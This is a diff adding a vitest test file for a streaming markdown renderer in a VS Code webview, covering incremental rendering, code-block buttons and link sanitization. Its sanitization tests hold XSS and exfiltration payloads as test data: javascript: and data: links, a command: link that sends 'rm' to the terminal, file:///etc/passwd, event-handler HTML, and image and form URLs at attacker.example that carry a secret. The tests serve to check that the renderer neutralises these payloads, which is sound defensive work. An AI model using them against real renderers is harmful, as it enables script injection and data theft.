@@ -1,0 +1,271 @@
+// @vitest-environment happy-dom
+import { describe, expect, it, vi } from 'vitest';
+import { MarkdownRenderer, type MarkdownWindow } from '../../../src/webview/markdown/markdownRenderer';
+import { StreamingMarkdownView, type StreamingMarkdownViewOptions } from '../../../src/webview/markdown/streamingMarkdownView';
+import { installHappyDomCompat } from './happyDomCompat';
+
+installHappyDomCompat(window);
+const win = window as unknown as MarkdownWindow;
+const renderer = new MarkdownRenderer(win);
+
+function createView(options: StreamingMarkdownViewOptions = {}) {
+  const host = document.createElement('div');
+  document.body.append(host);
+  const frames: Array<() => void> = [];
+  const view = new StreamingMarkdownView(host, { renderer, requestFrame: (callback) => frames.push(callback), ...options });
+  const runFrame = () => {
+    for (const callback of frames.splice(0)) callback();
+  };
+  return { host, view, runFrame, frames };
+}
+
+function click(element: Element): MouseEvent {
+  const event = new window.MouseEvent('click', { bubbles: true, cancelable: true });
+  element.dispatchEvent(event);
+  return event;
+}
+
+describe('StreamingMarkdownView incremental rendering', () => {
+  it('never touches finished blocks again while more text streams in', () => {
+    const { host, view, runFrame } = createView();
+    view.append('# Title\n\nFirst paragraph.\n\n');
+    // A block is finished once the first line of the next block is complete.
+    view.append('Second\n');
+    runFrame();
+    const heading = host.querySelector('h1');
+    const first = host.querySelectorAll('p')[0];
+    expect(heading?.textContent).toBe('Title');
+    for (const word of ['continues', ' here\n\nThird', ' one\n\n- a list', '\n- more\n']) {
+      view.append(word);
+      runFrame();
+    }
+    view.finish();
+    expect(host.querySelector('h1')).toBe(heading);
+    expect(host.querySelectorAll('p')[0]).toBe(first);
+    expect(view.stats.finishedChunkRenders).toBe(5);
+  });
+
+  it('re-renders the open tail at most once per animation frame', () => {
+    const { host, view, runFrame, frames } = createView();
+    for (const ch of 'A paragraph that streams in one character at a time') view.append(ch);
+    expect(frames).toHaveLength(1);
+    expect(host.textContent).toBe('');
+    runFrame();
+    expect(view.stats.tailRenders).toBe(1);
+    expect(host.querySelector('p')?.textContent).toBe('A paragraph that streams in one character at a time');
+    view.append(' more');
+    view.append(' text');
+    runFrame();
+    expect(view.stats.tailRenders).toBe(2);
+  });
+
+  it('streams an open code fence as plain text and highlights it when it closes', () => {
+    const { host, view, runFrame } = createView();
+    view.append('```ts\nconst a = 1;\n');
+    runFrame();
+    const streamingCode = host.querySelector('pre > code');
+    expect(streamingCode?.textContent).toBe('const a = 1;\n');
+    expect(streamingCode?.querySelector('span')).toBeNull();
+    view.append('const b = 2;\n');
+    runFrame();
+    expect(host.querySelector('pre > code')).toBe(streamingCode);
+    expect(streamingCode?.textContent).toBe('const a = 1;\nconst b = 2;\n');
+    expect(view.stats.tailRenders).toBe(0);
+    view.append('```\n');
+    runFrame();
+    const finalCode = host.querySelector('pre > code');
+    expect(finalCode).not.toBe(streamingCode);
+    expect(finalCode?.classList.contains('hljs')).toBe(true);
+    expect(finalCode?.querySelector('.hljs-keyword')?.textContent).toBe('const');
+    expect(host.querySelectorAll('pre')).toHaveLength(1);
+  });
+
+  it('does not show a line that is turning into the closing fence as code', () => {
+    const { host, view, runFrame } = createView();
+    view.append('```\nx\n``');
+    runFrame();
+    expect(host.querySelector('pre > code')?.textContent).toBe('x\n');
+  });
+
+  it('turns earlier [text][ref] into links when the definition arrives at the end, re-rendering only those blocks', () => {
+    const { host, view, runFrame } = createView();
+    view.append('Intro without references.\n\nSee [the docs][docs].\n\nMiddle.\n\n');
+    runFrame();
+    const intro = host.querySelector('p');
+    expect(host.querySelector('a')).toBeNull();
+    view.append('[docs]: https://example.com/docs\n');
+    view.finish();
+    const link = host.querySelector('a');
+    expect(link?.getAttribute('href')).toBe('https://example.com/docs');
+    expect(link?.textContent).toBe('the docs');
+    expect(host.querySelector('p')).toBe(intro);
+    expect(view.stats.referenceRerenders).toBe(1);
+    const oneShot = document.createElement('div');
+    oneShot.append(StreamingMarkdownView.renderAll('Intro without references.\n\nSee [the docs][docs].\n\nMiddle.\n\n[docs]: https://example.com/docs\n', win, renderer));
+    expect(host.innerHTML).toBe(oneShot.innerHTML);
+  });
+
+  it('shows a snapshot with setText and continues it with append', () => {
+    const { host, view, runFrame } = createView();
+    view.append('stale text\n\n');
+    view.setText('# Restored\n\nPartial ans');
+    expect(host.querySelector('h1')?.textContent).toBe('Restored');
+    expect(host.textContent).not.toContain('stale');
+    view.append('wer.');
+    runFrame();
+    view.finish();
+    expect(host.querySelectorAll('p')[0]?.textContent).toBe('Partial answer.');
+  });
+
+  it('renders a finished snapshot completely with setText(text, { finished: true })', () => {
+    const { host, view } = createView();
+    view.setText('```js\nlet x;\n```\n\n[a][r]\n\n[r]: https://r.example\n', { finished: true });
+    expect(host.querySelector('code.hljs')).not.toBeNull();
+    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://r.example');
+    expect(() => view.append('more')).toThrow(/after finish\(\)/);
+  });
+
+  it('joins a CRLF split across deltas into one line break', () => {
+    const { host, view } = createView();
+    view.append('one\r');
+    view.append('\ntwo\r');
+    view.finish();
+    expect(host.querySelector('p')?.textContent).toBe('one\ntwo');
+  });
+});
+
+describe('code block toolbar', () => {
+  it('offers Copy, Insert at Cursor and New File buttons that report the block’s code and language', () => {
+    const onCodeAction = vi.fn();
+    const { host, view } = createView({ onCodeAction });
+    view.setText('```python\nprint("hi")\n```\n\n```\nplain\n```\n', { finished: true });
+    const blocks = host.querySelectorAll('.cw-code-block');
+    expect(blocks).toHaveLength(2);
+    const buttons = Array.from(blocks[0].querySelectorAll('button'));
+    expect(buttons.map((button) => button.getAttribute('title'))).toEqual(['Copy', 'Insert at Cursor', 'New File with this Code']);
+    expect(buttons.map((button) => button.getAttribute('aria-label'))).toEqual(['Copy', 'Insert at Cursor', 'New File with this Code']);
+    expect(buttons.every((button) => button.classList.contains('codicon') && button.type === 'button')).toBe(true);
+    expect(buttons.some((button) => Array.from(button.attributes).some((attribute) => attribute.name.startsWith('on')))).toBe(false);
+    buttons.forEach((button) => click(button));
+    expect(onCodeAction.mock.calls).toEqual([
+      ['copy', 'print("hi")', 'python'],
+      ['insert', 'print("hi")', 'python'],
+      ['newFile', 'print("hi")', 'python'],
+    ]);
+    click(blocks[1].querySelector('button')!);
+    expect(onCodeAction).toHaveBeenLastCalledWith('copy', 'plain', '');
+    expect(blocks[0].querySelector('.cw-code-language')?.textContent).toBe('python');
+  });
+
+  it('offers the buttons on a code block that is still streaming', () => {
+    const onCodeAction = vi.fn();
+    const { host, view, runFrame } = createView({ onCodeAction });
+    view.append('```bash\nnpm test\n');
+    runFrame();
+    click(host.querySelector('button[data-cw-code-action="insert"]')!);
+    expect(onCodeAction).toHaveBeenCalledWith('insert', 'npm test', 'bash');
+  });
+
+  it('stops reacting after dispose', () => {
+    const onCodeAction = vi.fn();
+    const { host, view } = createView({ onCodeAction });
+    view.setText('```\nx\n```\n', { finished: true });
+    view.dispose();
+    click(host.querySelector('button')!);
+    expect(onCodeAction).not.toHaveBeenCalled();
+  });
+});
+
+describe('links and images policy', () => {
+  it('opens http(s) links only through the onLink callback and never navigates', () => {
+    const onLink = vi.fn();
+    const { host, view } = createView({ onLink });
+    view.setText('[site](https://example.com/a?b=1) and <http://plain.example>', { finished: true });
+    const anchors = host.querySelectorAll('a');
+    const event = click(anchors[0]);
+    expect(event.defaultPrevented).toBe(true);
+    click(anchors[1]);
+    expect(onLink.mock.calls).toEqual([['https://example.com/a?b=1'], ['http://plain.example']]);
+    expect(anchors[0].getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('renders command:, file:, vscode:, javascript: and data: links inert', () => {
+    const onLink = vi.fn();
+    const { host, view } = createView({ onLink });
+    view.setText(
+      '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) [b](file:///etc/passwd) [c](vscode://ms.x/y) [d](javascript:alert(1)) [e](JaVaScRiPt:alert(1)) [f](data:text/html,<script>alert(1)</script>) [g](relative/path.md)\n\n<a href="command:x">h</a> <a href="&#106;avascript:alert(1)">i</a>',
+      { finished: true },
+    );
+    const anchors = Array.from(host.querySelectorAll('a'));
+    expect(anchors.length).toBeGreaterThanOrEqual(9);
+    for (const anchor of anchors) {
+      expect(anchor.hasAttribute('href')).toBe(false);
+      expect(anchor.classList.contains('cw-inert-link')).toBe(true);
+      const event = click(anchor);
+      expect(event.defaultPrevented).toBe(true);
+    }
+    expect(anchors[0].getAttribute('title')).toContain('command:workbench.action.terminal.sendSequence');
+    expect(onLink).not.toHaveBeenCalled();
+  });
+
+  it('never creates an element that fetches: markdown, reference-style and raw images become links with alt text and URL', () => {
+    const onLink = vi.fn();
+    const { host, view } = createView({ onLink });
+    view.setText(
+      '![diagram](https://attacker.example/x.png?secret=abc)\n\n![ref image][pic]\n\n<img src="https://attacker.example/raw.png" alt="raw" onerror="alert(1)">\n\n<picture><source srcset="https://attacker.example/s.png"><img src="https://attacker.example/p.png" alt="pic"></picture>\n\n<video poster="https://attacker.example/v.png"></video>\n\n![local](file:///etc/passwd)\n\n[pic]: https://attacker.example/ref.png\n',
+      { finished: true },
+    );
+    expect(host.querySelector('img, picture, source, video, audio, svg, image, iframe, object, embed')).toBeNull();
+    for (const element of Array.from(host.querySelectorAll('*'))) {
+      for (const attribute of ['src', 'srcset', 'poster', 'background', 'style']) expect(element.hasAttribute(attribute)).toBe(false);
+    }
+    const placeholders = Array.from(host.querySelectorAll('a.cw-image-link'));
+    expect(placeholders.map((placeholder) => placeholder.textContent)).toEqual([
+      'diagram https://attacker.example/x.png?secret=abc',
+      'ref image https://attacker.example/ref.png',
+      'raw https://attacker.example/raw.png',
+      'pic https://attacker.example/p.png',
+      'local file:///etc/passwd',
+    ]);
+    click(placeholders[0]);
+    expect(onLink).toHaveBeenCalledWith('https://attacker.example/x.png?secret=abc');
+    expect(placeholders[4].hasAttribute('href')).toBe(false);
+  });
+
+  it('strips scripts, styles, frames, forms, SVG, MathML and event handlers from raw HTML', () => {
+    const { host, view } = createView();
+    view.setText(
+      [
+        '<script>window.__pwned = 1</script>',
+        '<p onclick="alert(1)" style="background:url(https://attacker.example/c)">styled</p>',
+        '<style>body { background: url(https://attacker.example/s) }</style>',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        '<form action="https://attacker.example/f"><input name="q"><button>go</button></form>',
+        '<svg onload="alert(1)"><image href="https://attacker.example/i.png"/><use href="#x"/></svg>',
+        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+        '<link rel="stylesheet" href="https://attacker.example/l.css"><meta http-equiv="refresh" content="0;url=https://attacker.example"><base href="https://attacker.example/">',
+        '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e">',
+      ].join('\n\n'),
+      { finished: true },
+    );
+    expect(host.querySelector('script, style, iframe, form, input, button:not(.cw-code-action), svg, math, link, meta, base, object, embed, img')).toBeNull();
+    for (const element of Array.from(host.querySelectorAll('*'))) {
+      for (const attribute of Array.from(element.attributes)) {
+        expect(attribute.name.startsWith('on')).toBe(false);
+        expect(attribute.name).not.toBe('style');
+      }
+    }
+    expect(host.textContent).toContain('styled');
+    expect(host.innerHTML).not.toContain('attacker.example/c');
+  });
+
+  it('renders GFM tables and task lists without inline styles or form controls', () => {
+    const { host, view } = createView();
+    view.setText('| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n', { finished: true });
+    expect(host.querySelector('th')?.getAttribute('align')).toBe('center');
+    expect(host.querySelectorAll('td')[1]?.getAttribute('align')).toBe('right');
+    const boxes = Array.from(host.querySelectorAll('li > .cw-task'));
+    expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual(['done', 'not done']);
+    expect(host.querySelector('input')).toBeNull();
+  });
+});
